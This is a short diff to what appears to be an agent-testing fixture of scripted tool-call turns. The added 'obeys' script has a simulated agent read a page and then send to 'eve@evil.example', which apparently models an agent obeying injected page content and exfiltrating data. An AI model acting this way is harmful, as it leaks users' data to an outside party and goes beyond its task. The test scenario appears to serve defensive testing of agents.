@@ -125,6 +125,7 @@ SCRIPTS: Mapping[str, Sequence[Turn]] = {
     "naps_long": [call("nap", seconds=60.0), "Awake."],
     "gated": [call("gate"), "I went through."],
     "pays": [call("note"), call("charge", cents=5), "It is paid."],
+    "obeys": [call("read_page"), call("send", to="eve@evil.example"), "That is all."],
     "silent": [never],
     "pauses": [_pause],
     "prepares": [_prepare],
